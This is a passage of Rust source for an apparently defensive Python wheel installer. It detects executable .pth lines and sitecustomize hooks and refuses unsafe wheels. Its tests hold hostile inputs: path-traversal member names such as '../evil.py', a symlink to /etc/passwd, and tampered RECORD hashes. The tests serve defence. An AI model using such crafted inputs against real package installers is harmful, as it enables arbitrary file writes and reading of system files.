    let data = format!("{}.data/scripts/", dist_info.trim_end_matches(".dist-info"));
    if let Some(rel) = path.strip_prefix(&data) {
        return shadowed_module(rel).is_some();
    }
    path.to_lowercase().split('/').any(|c| {
        ["sitecustomize", "usercustomize"]
            .iter()
            .any(|m| c == *m || c.strip_prefix(m).is_some_and(|r| r.starts_with('.')))
    })
}

/// The module name a file in the scripts directory can be imported as: a
/// file `<name>.py` (also `.pyc`, `.pyw`, `.pyd`, `.so` and the tagged
/// extension forms `<name>.<tag>.so`), or anything in a directory `<name>/`
/// (a package, or a namespace package portion), where `<name>` is a Python
/// identifier (any non-ASCII name counts: identifiers may be Unicode).
fn shadowed_module(rel: &str) -> Option<String> {
    let identifier = |s: &str| {
        !s.is_empty()
            && !s.starts_with(|c: char| c.is_ascii_digit())
            && s.chars().all(|c| c == '_' || c.is_alphanumeric())
    };
    if let Some((dir, _)) = rel.split_once('/') {
        return identifier(dir).then(|| dir.to_owned());
    }
    let (stem, suffix) = rel.split_once('.')?;
    let suffix = suffix.to_lowercase();
    let importable = ["py", "pyc", "pyw", "pyd", "so"].contains(&suffix.as_str())
        || suffix.ends_with(".so")
        || suffix.ends_with(".pyd");
    (importable && identifier(stem)).then(|| stem.to_owned())
}

/// The lines of a `.pth` file as every supported Python splits it, at once.
///
/// What `site.addpackage` does, per version (`Lib/site.py`):
/// - 3.8–3.12 iterate a text file opened in the locale encoding with
///   universal newlines: lines end at `\n`, `\r` or `\r\n`. A byte-order mark
///   stays in the first line (so it never executes there), and a file that
///   does not decode aborts `site` with an error, but only after the lines of
///   the chunks before the bad byte ran.
/// - 3.13 reads the whole file, decodes it as `utf-8-sig` (the BOM is
///   dropped), falling back to the locale encoding, and uses
///   `str.splitlines()`, which also breaks at `\x0b`, `\x0c`, `\x1c`–`\x1e`,
///   U+0085, U+2028 and U+2029.
///
/// So the pieces are: a leading BOM removed; valid UTF-8 split at every one
/// of those characters; anything else split at those bytes and at the byte
/// `\x85` (NEL in Latin-1, a locale 3.13 may fall back to). Every line any of
/// those interpreters sees starts at the start of one of these pieces, so a
/// file none of whose pieces starts with `import` runs nothing anywhere
/// (the real interpreters are checked in `pth_split_agrees_with_real_pythons`).
fn pth_pieces(bytes: &[u8]) -> Vec<std::borrow::Cow<'_, str>> {
    const BREAKS: [char; 10] = [
        '\n', '\r', '\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\u{85}', '\u{2028}', '\u{2029}',
    ];
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    match std::str::from_utf8(bytes) {
        Ok(text) => text.split(BREAKS).map(std::borrow::Cow::Borrowed).collect(),
        Err(_) => bytes
            .split(|b| b"\n\r\x0b\x0c\x1c\x1d\x1e\x85".contains(b))
            .map(String::from_utf8_lossy)
            .collect(),
    }
}

/// Whether `site.py` would execute this piece, judged after stripping leading
/// whitespace, which is stricter than `site.py` itself (it checks the raw
/// line).
fn executes(piece: &str) -> bool {
    let line = piece.trim_start();
    line.starts_with("import ") || line.starts_with("import\t")
}

/// The first piece ([`pth_pieces`]) some supported Python would execute,
/// 1-based, shortened for messages.
fn executable_pth_line(bytes: &[u8]) -> Option<(usize, String)> {
    pth_pieces(bytes)
        .iter()
        .enumerate()
        .find(|(_, line)| executes(line))
        .map(|(i, line)| {
            let text: String = line
                .trim()
                .chars()
                .take(60)
                .flat_map(|c| {
                    let escaped: Vec<char> = if c.is_control() {
                        c.escape_unicode().collect()
                    } else {
                        vec![c]
                    };
                    escaped
                })
                .collect();
            (i + 1, text)
        })
}

/// What a stripped `.pth` file keeps: its path lines, each on a line of its
/// own ending in `\n` (invalid UTF-8 replaced). A piece ([`pth_pieces`]) is
/// kept only if, trimmed, it does not start with `import`: the result has no
/// line any supported interpreter would execute, however it splits it.
/// Comments and blank lines go too.
fn path_only_pth(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in pth_pieces(bytes) {
        let trimmed = piece.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with("import") {
            continue;
        }
        out.extend_from_slice(piece.as_bytes());
        out.push(b'\n');
    }
    out
}

/// `.pth` path lines that put a directory holding a `sitecustomize` or
/// `usercustomize` on `sys.path`: `site.py` would import it at every start.
/// Checked over the installed `site-packages`, after every wheel of the
/// tree is in (the `.pth` file and the module may come from two wheels).
/// `Strip`: the line is removed from its file and reported (as
/// `file (line N: text)`); otherwise the tree is refused.
pub fn path_line_hooks(site: &Path, pth: PthPolicy) -> Result<Vec<String>> {
    let mut reported = Vec::new();
    let mut names: Vec<PathBuf> = std::fs::read_dir(site)?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x.eq_ignore_ascii_case("pth")) && p.is_file())
        .collect();
    names.sort();
    for file in names {
        let bytes = fs_err::read(&file)?;
        let mut kept = Vec::new();
        let mut changed = false;
        for (n, piece) in pth_pieces(&bytes).iter().enumerate() {
            let line = piece.trim();
            let skip = line.is_empty() || line.starts_with('#') || executes(piece);
            let dir = site.join(line.trim_end());
            if !skip && holds_customize(&dir) {
                let what = format!(
                    "`{}` (line {}: `{}`, which puts a `sitecustomize` on `sys.path`)",
                    file.file_name().unwrap_or_default().to_string_lossy(),
                    n + 1,
                    line.chars()
                        .filter(|c| !c.is_control())
                        .take(60)
                        .collect::<String>()
                );
                if pth != PthPolicy::Strip {
                    return Err(Error::unsafe_pkg(format!(
                        "the environment's {what} would run code at every Python start"
                    ))
                    .with_hint(HINT_PTH));
                }
                reported.push(what);
                changed = true;
                continue;
            }
            if !skip {
                kept.extend_from_slice(piece.as_bytes());
                kept.push(b'\n');
            }
        }
        if changed {
            fs_err::write(&file, kept)?;
        }
    }
    Ok(reported)
}

/// Whether `dir` has a `sitecustomize`/`usercustomize` module or package.
fn holds_customize(dir: &Path) -> bool {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return false;
    };
    entries.filter_map(|e| e.ok()).any(|e| {
        let name = e.file_name().to_string_lossy().to_lowercase();
        ["sitecustomize", "usercustomize"]
            .iter()
            .any(|m| name == *m || name.strip_prefix(m).is_some_and(|r| r.starts_with('.')))
    })
}

/// The `[console_scripts]` of `entry_points.txt`; `[gui_scripts]` entries are
/// validated the same way but not installed.
fn parse_entry_points(text: &str) -> Result<Vec<EntryPoint>, String> {
    let mut section: Option<String> = None;
    // (section, name, value, line)
    let mut entries: Vec<(String, String, String, usize)> = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let line_no = i + 1;
        let trimmed = raw.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with(';') {
            continue;
        }
        if raw.starts_with([' ', '\t']) {
            // A continuation line: configparser appends it to the value.
            match entries.last_mut() {
                Some(last) if section.is_some() => {
                    last.2.push('\n');
                    last.2.push_str(trimmed);
                    continue;
                }
                _ => {
                    return Err(format!(
                        "has an `entry_points.txt` with a stray indented line {line_no}"
                    ));
                }
            }
        }
        if let Some(inner) = trimmed.strip_prefix('[') {
            let name = inner.strip_suffix(']').ok_or_else(|| {
                format!(
                    "has an `entry_points.txt` with a malformed section header on line {line_no}"
                )
            })?;
            section = Some(name.trim().to_owned());
            continue;
        }
        let Some(current) = &section else {
            return Err(format!(
                "has an `entry_points.txt` with an entry before any section (line {line_no})"
            ));
        };
        let Some((name, value)) = trimmed.split_once('=') else {
            return Err(format!(
                "has an `entry_points.txt` whose line {line_no} is not `name = value`"
            ));
        };
        entries.push((
            current.clone(),
            name.trim().to_owned(),
            value.trim().to_owned(),
            line_no,
        ));
    }
    let mut scripts = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for (section, name, value, line) in entries {
        if section != "console_scripts" && section != "gui_scripts" {
            continue;
        }
        let shown = format!("`{name} = {}`", value.replace('\n', "\\n"));
        if !safe_script_name(&name) {
            return Err(format!(
                "has an entry point {shown} (line {line}) whose name is not a plain file name"
            ));
        }
        let ep = parse_object_reference(&name, &value).ok_or_else(|| {
            format!("has an entry point {shown} (line {line}) that is not `module:attr`")
        })?;
        if !seen.insert((section.clone(), name.clone())) {
            return Err(format!(
                "has the entry point `{name}` twice in `[{section}]`"
            ));
        }
        if section == "console_scripts" {
            scripts.push(ep);
        }
    }
    Ok(scripts)
}

/// A script name is written as a file in the scripts directory.
fn safe_script_name(name: &str) -> bool {
    !name.is_empty()
        && name != "."
        && name != ".."
        && !name.starts_with('-')
        && !name.contains(['/', '\\', ':'])
        && !name.chars().any(char::is_control)
}

/// `module:attr`, optionally followed by `[extra, ...]`, as the
/// entry points specification writes it; names are dotted identifiers.
fn parse_object_reference(name: &str, value: &str) -> Option<EntryPoint> {
    let (reference, extras) = match value.split_once('[') {
        Some((reference, extras)) => (reference, Some(extras)),
        None => (value, None),
    };
    if let Some(extras) = extras {
        let inner = extras.trim_end().strip_suffix(']')?;
        let extra_ok = |e: &str| {
            !e.is_empty()
                && e.chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        };
        if !inner.split(',').map(str::trim).all(extra_ok) {
            return None;
        }
    }
    // A console script calls a function: `module:attr` is required (pip
    // refuses a bare module too, "A callable suffix is required").
    let (module, attr) = reference.split_once(':')?;
    let (module, attr) = (module.trim(), attr.trim());
    if !dotted_identifiers(module) || !dotted_identifiers(attr) {
        return None;
    }
    Some(EntryPoint {
        name: name.to_owned(),
        module: module.to_owned(),
        attr: attr.to_owned(),
    })
}

fn dotted_identifiers(s: &str) -> bool {
    !s.is_empty()
        && s.split('.').all(|part| {
            let mut chars = part.chars();
            chars.next().is_some_and(|c| c.is_alphabetic() || c == '_')
                && chars.all(|c| c.is_alphanumeric() || c == '_')
        })
}

/// The `#!` header for scripts run by `python`. A path with whitespace or
/// too long for the kernel gets pip's `/bin/sh` trampoline, which is also
/// valid Python (a string literal).
fn shebang(python: &Path) -> Result<String> {
    let path = python.to_str().ok_or_else(|| {
        Error::internal(format!(
            "the interpreter path `{}` is not UTF-8",
            python.display()
        ))
    })?;
    if path.contains(['\n', '\r', '\0']) {
        return Err(Error::internal(format!(
            "the interpreter path `{}` cannot be written into a script",
            python.display()
        )));
    }
    if path.len() <= SHEBANG_MAX && !path.contains([' ', '\t']) {
        return Ok(format!("#!{path}\n"));
    }
    if path.contains(['"', '$', '`', '\\', '\'']) {
        return Err(Error::internal(format!(
            "the interpreter path `{}` cannot be written into a script",
            python.display()
        )));
    }
    Ok(format!(
        "#!/bin/sh\n'''exec' \"{path}\" \"$0\" \"$@\"\n' '''\n"
    ))
}

/// A console script, as pip and uv write them, with one addition: before
/// it imports anything it takes its own directory (`bin/`, which Python
/// puts first on `sys.path` for a script) off `sys.path`, so that no file
/// there, whatever its name, is imported in place of a module. `sys` and
/// `os` are loaded by then (`site` imports `os` before any script runs).
/// No `str.removesuffix`: that is 3.9+, and 3.8 is supported.
fn script(header: &str, ep: &EntryPoint) -> String {
    let module = &ep.module;
    let attr = &ep.attr;
    let first = attr.split('.').next().unwrap_or(attr);
    let run = format!(
        "{SCRIPT_DIR_OFF_PATH}\
         from {module} import {first}\n\
         if __name__ == \"__main__\":\n    \
         if sys.argv[0].endswith(\".exe\"):\n        \
         sys.argv[0] = sys.argv[0][:-4]\n    \
         sys.exit({attr}())\n"
    );
    format!("{header}# -*- coding: utf-8 -*-\n{run}")
}

/// The lines of [`script`] that take the script's directory off `sys.path`.
const SCRIPT_DIR_OFF_PATH: &str = "import sys\n\
    import os\n\
    if sys.path and os.path.realpath(sys.path[0] or os.curdir) == \
    os.path.dirname(os.path.realpath(__file__)):\n    \
    del sys.path[0]\n";

/// Rewrites a first line starting with `#!python` (also `#!pythonw`) to
/// `header`, as pip does for scripts in `.data/scripts/`; passes everything
/// else through.
struct ShebangFix<'a, W: Write> {
    out: W,
    header: &'a [u8],
    head: Vec<u8>,
    state: FixState,
}

#[derive(PartialEq, Eq)]
enum FixState {
    /// Fewer than 8 bytes seen.
    Deciding,
    /// Dropping the rest of the `#!python...` line.
    SkippingLine,
    Passing,
}

const PYTHON_SHEBANG: &[u8] = b"#!python";

impl<'a, W: Write> ShebangFix<'a, W> {
    fn new(out: W, header: &'a [u8]) -> Self {
        ShebangFix {
            out,
            header,
            head: Vec::with_capacity(PYTHON_SHEBANG.len()),
            state: FixState::Deciding,
        }
    }

    /// Write what is still held back (a file shorter than `#!python`).
    fn finish(mut self) -> io::Result<()> {
        if self.state == FixState::Deciding {
            self.out.write_all(&self.head)?;
        }
        self.out.flush()
    }
}

impl<W: Write> Write for ShebangFix<'_, W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let mut rest = buf;
        while !rest.is_empty() {
            match self.state {
                FixState::Deciding => {
                    let take = (PYTHON_SHEBANG.len() - self.head.len()).min(rest.len());
                    self.head.extend_from_slice(&rest[..take]);
                    rest = &rest[take..];
                    if self.head.len() == PYTHON_SHEBANG.len() {
                        if self.head == PYTHON_SHEBANG {
                            self.out.write_all(self.header)?;
                            self.state = FixState::SkippingLine;
                        } else {
                            self.out.write_all(&self.head)?;
                            self.state = FixState::Passing;
                        }
                    }
                }
                FixState::SkippingLine => match rest.iter().position(|b| *b == b'\n') {
                    Some(i) => {
                        rest = &rest[i + 1..];
                        self.state = FixState::Passing;
                    }
                    None => rest = &[],
                },
                FixState::Passing => {
                    self.out.write_all(rest)?;
                    rest = &[];
                }
            }
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

/// Which other distribution in the environment installed `path`, for the
/// message when a wheel would overwrite it. Best effort: reads the RECORD,
/// WHEEL and entry points of each `.dist-info` in site-packages.
fn owner_of(layout: &VenvLayout, path: &Path, own: &str) -> Option<String> {
    let target = path.to_string_lossy().to_lowercase();
    let mut roots = vec![&layout.purelib];
    if layout.platlib != layout.purelib {
        roots.push(&layout.platlib);
    }
    for root in roots {
        let Ok(dir) = fs_err::read_dir(root) else {
            continue;
        };
        for entry in dir.flatten() {
            let Ok(dir_name) = entry.file_name().into_string() else {
                continue;
            };
            let Some(stem) = dir_name.strip_suffix(".dist-info") else {
                continue;
            };
            if dir_name == own {
                continue;
            }
            let dist = normalize(stem.split_once('-').map_or(stem, |(d, _)| d));
            let info = entry.path();
            let read = |f: &str| fs_err::read(info.join(f)).ok();
            let Some(root_is_purelib) = read("WHEEL").and_then(|b| parse_wheel_file(&b).ok())
            else {
                continue;
            };
            let data_dir = format!("{stem}.data");
            let record = read("RECORD").unwrap_or_default();
            let rows = std::str::from_utf8(&record)
                .ok()
                .and_then(|t| parse_csv(t).ok())
                .unwrap_or_default();
            let in_record = rows.iter().filter_map(|(_, row)| row.first()).any(|p| {
                destination(p, &data_dir, root_is_purelib, layout, &dist)
                    .is_ok_and(|d| d.path.to_string_lossy().to_lowercase() == target)
            });
            let entry_points = read("entry_points.txt").unwrap_or_default();
            let in_scripts = std::str::from_utf8(&entry_points)
                .ok()
                .and_then(|t| parse_entry_points(t).ok())
                .unwrap_or_default()
                .iter()
                .any(|ep| {
                    layout
                        .scripts
                        .join(&ep.name)
                        .to_string_lossy()
                        .to_lowercase()
                        == target
                });
            if in_record || in_scripts {
                return Some(dir_name);
            }
        }
    }
    None
}

/// Keep only the exec bit: 0o755 or 0o644.
fn set_file_mode(file: &fs_err::File, exec: bool) -> Result<()> {
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = if exec { 0o755 } else { 0o644 };
        file.set_permissions(std::fs::Permissions::from_mode(mode))?;
    }
    #[cfg(not(unix))]
    let _ = (file, exec);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Kind;
    use sha2::{Digest, Sha256};
    use zip::CompressionMethod;
    use zip::write::SimpleFileOptions;

    const MIB: u64 = 1024 * 1024;
    const DIST: &str = "demo_pkg-1.0";
    const WHEEL: &str =
        "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n";

    /// One wheel member: name, content, Unix mode (a symlink's content is
    /// its target).
    type File = (String, Vec<u8>, u32);

    fn f(name: &str, data: &str) -> File {
        (name.to_owned(), data.as_bytes().to_vec(), 0o644)
    }

    /// The members of a minimal `demo-pkg 1.0` wheel plus `extra`.
    fn files(extra: Vec<File>) -> Vec<File> {
        let mut all = vec![
            f("demo_pkg/__init__.py", "def main():\n    return 0\n"),
            f(
                &format!("{DIST}.dist-info/METADATA"),
                "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n",
            ),
            f(&format!("{DIST}.dist-info/WHEEL"), WHEEL),
        ];
        all.extend(extra);
        all
    }

    fn record_row(name: &str, data: &[u8]) -> String {
        let hash = URL_SAFE_NO_PAD.encode(Sha256::digest(data));
        format!("{name},sha256={hash},{}\n", data.len())
    }

    /// A RECORD listing `files` correctly, and itself without a hash.
    fn record_for(files: &[File]) -> String {
        let mut record: String = files.iter().map(|(n, d, _)| record_row(n, d)).collect();
        record.push_str(&format!("{DIST}.dist-info/RECORD,,\n"));
        record
    }

    /// Write the wheel: `files`, then `RECORD` (computed unless given).
    fn build(dir: &Path, files: &[File], record: Option<String>) -> PathBuf {
        let path = dir.join("demo_pkg-1.0-py3-none-any.whl");
        let record = record.unwrap_or_else(|| record_for(files));
        let mut w = zip::ZipWriter::new(fs_err::File::create(&path).unwrap());
        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
        for (name, data, mode) in files {
            if mode & 0o170_000 == 0o120_000 {
                let target = std::str::from_utf8(data).unwrap();
                w.add_symlink(name.as_str(), target, options).unwrap();
                continue;
            }
            w.start_file(name.as_str(), options.unix_permissions(*mode))
                .unwrap();
            w.write_all(data).unwrap();
        }
        w.start_file(format!("{DIST}.dist-info/RECORD"), options)
            .unwrap();
        w.write_all(record.as_bytes()).unwrap();
        w.finish().unwrap();
        path
    }

    fn layout(root: &Path) -> VenvLayout {
        let venv = root.join("venv");
        let site = venv.join("lib/python3.12/site-packages");
        fs_err::create_dir_all(&site).unwrap();
        VenvLayout {
            purelib: site.clone(),
            platlib: site,
            scripts: venv.join("bin"),
            data: venv.clone(),
            include: venv.join("include"),
            python: venv.join("bin/python"),
        }
    }

    fn install(whl: &Path, layout: &VenvLayout, pth: PthPolicy) -> Result<InstalledWheel> {
        install_wheel(
            whl,
            layout,
            "demo-pkg",
            "1.0",
            pth,
            &Limits::default(),
            &SharedFiles::default(),
        )
    }

    /// Install must fail with `kind`, naming the wheel and `needle`.
    #[track_caller]
    fn refused(files: &[File], record: Option<String>, kind: Kind, needle: &str) -> Error {
        let tmp = tempfile::tempdir().unwrap();
        let whl = build(tmp.path(), files, record);
        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseExecutable)
            .expect_err("install should be refused");
        assert_eq!(err.kind, kind, "{err}");
        assert!(err.message.starts_with("wheel `demo-pkg==1.0` "), "{err}");
        assert!(err.message.contains(needle), "{needle:?} not in: {err}");
        err
    }

    fn mode(path: &Path) -> u32 {
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            fs_err::metadata(path).unwrap().permissions().mode() & 0o777
        }
        #[cfg(not(unix))]
        {
            let _ = path;
            0o644
        }
    }

    #[test]
    fn installs_a_normal_wheel_with_console_script() {
        let tmp = tempfile::tempdir().unwrap();
        let entry_points = "[console_scripts]\ndemo = demo_pkg.cli:app.main [cli]\n\
                            \n[gui_scripts]\ndemo-gui = demo_pkg:gui\n\
                            [pytest11]\nx = whatever you like\n";
        let files = files(vec![
            (
                "demo_pkg/tool.sh".to_owned(),
                b"#!/bin/sh\n".to_vec(),
                0o100_775,
            ),
            f("demo_pkg/sub/data.json", "{}"),
            f(&format!("{DIST}.dist-info/entry_points.txt"), entry_points),
        ]);
        let whl = build(tmp.path(), &files, None);
        let layout = layout(tmp.path());
        let installed = install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
        assert_eq!(installed.files, 7);
        assert_eq!(
            installed.console_scripts,
            vec![EntryPoint {
                name: "demo".into(),
                module: "demo_pkg.cli".into(),
                attr: "app.main".into(),
            },]
        );
        let site = &layout.purelib;
        let read = |p: PathBuf| fs_err::read_to_string(p).unwrap();
        assert_eq!(
            read(site.join("demo_pkg/__init__.py")),
            "def main():\n    return 0\n"
        );
        assert_eq!(read(site.join("demo_pkg/sub/data.json")), "{}");
        assert_eq!(
            read(site.join(format!("{DIST}.dist-info/INSTALLER"))),
            "safex\n"
        );
        assert!(site.join(format!("{DIST}.dist-info/RECORD")).is_file());
        assert_eq!(mode(&site.join("demo_pkg/tool.sh")), 0o755);
        assert_eq!(mode(&site.join("demo_pkg/__init__.py")), 0o644);

        let python = layout.python.display();
        assert_eq!(
            read(layout.scripts.join("demo")),
            format!(
                "#!{python}\n# -*- coding: utf-8 -*-\n{SCRIPT_DIR_OFF_PATH}from demo_pkg.cli import app\n\
                 if __name__ == \"__main__\":\n    if sys.argv[0].endswith(\".exe\"):\n        \
                 sys.argv[0] = sys.argv[0][:-4]\n    sys.exit(app.main())\n"
            )
        );
        assert_eq!(mode(&layout.scripts.join("demo")), 0o755);
        assert!(!layout.scripts.join("demo-gui").exists());
    }

    #[test]
    fn data_directory_is_mapped_and_python_shebang_rewritten() {
        let tmp = tempfile::tempdir().unwrap();
        let data = format!("{DIST}.data");
        let files = files(vec![
            f(&format!("{data}/scripts/tool"), "#!python\nprint('hi')\n"),
            f(
                &format!("{data}/scripts/toolw"),
                "#!pythonw -u\r\nprint('w')\n",
            ),
            f(&format!("{data}/scripts/sh"), "#!/bin/sh\necho\n"),
            f(&format!("{data}/scripts/tiny"), "#!py"),
            f(&format!("{data}/purelib/extra_pure.py"), "p = 1\n"),
            f(&format!("{data}/platlib/extra_plat.py"), "q = 1\n"),
            f(&format!("{data}/data/share/demo/readme.txt"), "data\n"),
            f(&format!("{data}/headers/demo.h"), "int x;\n"),
        ]);
        let whl = build(tmp.path(), &files, None);
        let layout = layout(tmp.path());
        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
        let read = |p: PathBuf| fs_err::read_to_string(p).unwrap();
        let python = layout.python.display();
        assert_eq!(
            read(layout.scripts.join("tool")),
            format!("#!{python}\nprint('hi')\n")
        );
        assert_eq!(
            read(layout.scripts.join("toolw")),
            format!("#!{python}\nprint('w')\n")
        );
        assert_eq!(read(layout.scripts.join("sh")), "#!/bin/sh\necho\n");
        assert_eq!(read(layout.scripts.join("tiny")), "#!py");
        assert_eq!(mode(&layout.scripts.join("tool")), 0o755);
        assert_eq!(mode(&layout.scripts.join("sh")), 0o755);
        assert_eq!(read(layout.purelib.join("extra_pure.py")), "p = 1\n");
        assert_eq!(read(layout.platlib.join("extra_plat.py")), "q = 1\n");
        assert_eq!(read(layout.data.join("share/demo/readme.txt")), "data\n");
        assert_eq!(read(layout.include.join("demo-pkg/demo.h")), "int x;\n");
        assert!(!layout.purelib.join(&data).exists());
    }

    #[test]
    fn root_is_purelib_false_installs_to_platlib() {
        let tmp = tempfile::tempdir().unwrap();
        let mut layout = layout(tmp.path());
        layout.platlib = tmp.path().join("venv/lib64/site-packages");
        let mut files = files(vec![]);
        files[2].1 = WHEEL.replace("true", "false").into_bytes();
        let whl = build(tmp.path(), &files, None);
        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
        assert!(layout.platlib.join("demo_pkg/__init__.py").is_file());
        assert!(
            layout
                .platlib
                .join(format!("{DIST}.dist-info/INSTALLER"))
                .is_file()
        );
        assert!(!layout.purelib.join("demo_pkg").exists());
    }

    #[test]
    fn shebang_for_long_or_spaced_paths_uses_sh_trampoline() {
        let plain = shebang(Path::new("/venv/bin/python")).unwrap();
        assert_eq!(plain, "#!/venv/bin/python\n");
        let spaced = shebang(Path::new("/Users/a b/venv/bin/python")).unwrap();
        assert_eq!(
            spaced,
            "#!/bin/sh\n'''exec' \"/Users/a b/venv/bin/python\" \"$0\" \"$@\"\n' '''\n"
        );
        let long = format!("/{}/python", "d".repeat(200));
        assert!(
            shebang(Path::new(&long))
                .unwrap()
                .starts_with("#!/bin/sh\n")
        );
        assert!(shebang(Path::new("/a b/$x/python")).is_err());
    }

    #[test]
    fn refuses_unknown_data_key() {
        let files = files(vec![f(&format!("{DIST}.data/etc/passwd"), "x")]);
        refused(&files, None, Kind::Unsafe, "unknown install location `etc`");
    }

    #[test]
    fn refuses_unsafe_members() {
        for (name, needle) in [
            ("../evil.py", "member `../evil.py` outside the wheel"),
            ("/etc/evil.py", "member `/etc/evil.py` outside the wheel"),
            ("demo_pkg/../../evil.py", "outside the wheel"),
            ("C:/evil.py", "outside the wheel"),
        ] {
            refused(&files(vec![f(name, "x")]), None, Kind::Unsafe, needle);
        }
    }

    #[test]
    fn refuses_symlink_member() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![(
            "demo_pkg/link".to_owned(),
            b"/etc/passwd".to_vec(),
            0o120_777,
        )]);
        let whl = build(tmp.path(), &files, None);
        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("symlink `demo_pkg/link`"), "{err}");
    }

    #[test]
    fn refuses_duplicate_and_case_colliding_names() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![f("demo_pkg/a.py", "1"), f("demo_pkg/b.py", "2")]);
        let whl = build(tmp.path(), &files, None);
        // Rename `b.py` to `a.py` in the local header and the central record.
        let mut bytes = fs_err::read(&whl).unwrap();
        let (from, to) = (b"demo_pkg/b.py", b"demo_pkg/a.py");
        let mut i = 0;
        while i + from.len() <= bytes.len() {
            if &bytes[i..i + from.len()] == from {
                bytes[i..i + from.len()].copy_from_slice(to);
            }
            i += 1;
        }
        fs_err::write(&whl, &bytes).unwrap();
        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(
            err.message
                .contains("more than one member named `demo_pkg/a.py`"),
            "{err}"
        );

        refused(
            &files_with(vec![f("demo_pkg/Mod.py", "1"), f("demo_pkg/mod.py", "2")]),
            None,
            Kind::Unsafe,
            "`demo_pkg/Mod.py` and `demo_pkg/mod.py` whose names differ only in case",
        );
    }

    fn files_with(extra: Vec<File>) -> Vec<File> {
        files(extra)
    }

    #[test]
    fn refuses_record_hash_mismatch() {
        let files = files(vec![]);
        let mut record = record_for(&files);
        record = record.replacen(
            &record_row("demo_pkg/__init__.py", &files[0].1),
            &record_row("demo_pkg/__init__.py", b"def main():\n    return 1\n"),
            1,
        );
        refused(
            &files,
            Some(record),
            Kind::Integrity,
            "file `demo_pkg/__init__.py` whose sha256 differs from its RECORD",
        );
    }

    #[test]
    fn refuses_record_hash_mismatch_of_metadata_read_early() {
        let files = files(vec![]);
        let wheel = format!("{DIST}.dist-info/WHEEL");
        let record = record_for(&files).replacen(
            &record_row(&wheel, WHEEL.as_bytes()),
            &record_row(&wheel, WHEEL.replace("test", "tset").as_bytes()),
            1,
        );
        let err = refused(
            &files,
            Some(record),
            Kind::Integrity,
            "whose sha256 differs",
        );
        assert!(err.message.contains(&wheel), "{err}");
    }

    #[test]
    fn refuses_unlisted_file() {
        let files = files(vec![f("demo_pkg/extra.py", "x = 1\n")]);
        let record = record_for(&files).replace(&record_row("demo_pkg/extra.py", b"x = 1\n"), "");
        refused(
            &files,
            Some(record),
            Kind::Integrity,
            "file `demo_pkg/extra.py` that its RECORD does not list",
        );
    }

    #[test]
    fn refuses_record_row_for_missing_file() {
        let files = files(vec![]);
        let mut record = record_for(&files);
        record.push_str(&record_row("demo_pkg/gone.py", b"x"));
        refused(
            &files,
            Some(record),
            Kind::Integrity,
            "lists `demo_pkg/gone.py` in its RECORD but has no such file",
        );
    }

    #[test]
    fn refuses_size_mismatch() {
        let files = files(vec![]);
        let good = record_row("demo_pkg/__init__.py", &files[0].1);
        let bad = good.replace(&format!(",{}\n", files[0].1.len()), ",3\n");
        let record = record_for(&files).replacen(&good, &bad, 1);
        refused(
            &files,
            Some(record),
            Kind::Integrity,
            "file `demo_pkg/__init__.py` of 25 bytes, but its RECORD says 3",
        );
    }

    #[test]
    fn refuses_malformed_record() {
        let files = files(vec![]);
        for (record, needle) in [
            (
                "demo_pkg/__init__.py,sha256=abc\n".to_owned(),
                "has 2 fields, not 3",
            ),
            (
                record_for(&files).replacen("sha256=", "md5=", 1),
                "uses `md5`; safex checks sha256",
            ),
            ("\"unterminated,,\n".to_owned(), "unterminated quote"),
        ] {
            refused(&files, Some(record), Kind::Integrity, needle);
        }
    }

    #[test]
    fn record_csv_with_quotes_is_understood() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![f("demo_pkg/a,\"b\".txt", "q")]);
        let record: String = files
            .iter()
            .map(|(n, d, _)| {
                let row = record_row(n, d);
                if n.contains(',') {
                    row.replacen("demo_pkg/a,\"b\".txt", "\"demo_pkg/a,\"\"b\"\".txt\"", 1)
                        .replace('\n', "\r\n")
                } else {
                    row
                }
            })
            .collect::<String>()
            + &format!("{DIST}.dist-info/RECORD,,\n");
        let whl = build(tmp.path(), &files, Some(record));
        let layout = layout(tmp.path());
        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
        assert!(layout.purelib.join("demo_pkg/a,\"b\".txt").is_file());
    }

    #[test]
    fn csv_table() {
        let ok = |s: &str| parse_csv(s).unwrap();
        assert_eq!(
            ok("a,b,c\n"),
            vec![(1, vec!["a".into(), "b".into(), "c".into()])]
        );
        assert_eq!(
            ok("\"a,1\",,\r\n\nx,\"\"\"y\"\"\",3"),
            vec![
                (1, vec!["a,1".into(), String::new(), String::new()]),
                (3, vec!["x".into(), "\"y\"".into(), "3".into()]),
            ]
        );
        assert!(parse_csv("a\"b,c,d\n").is_err());
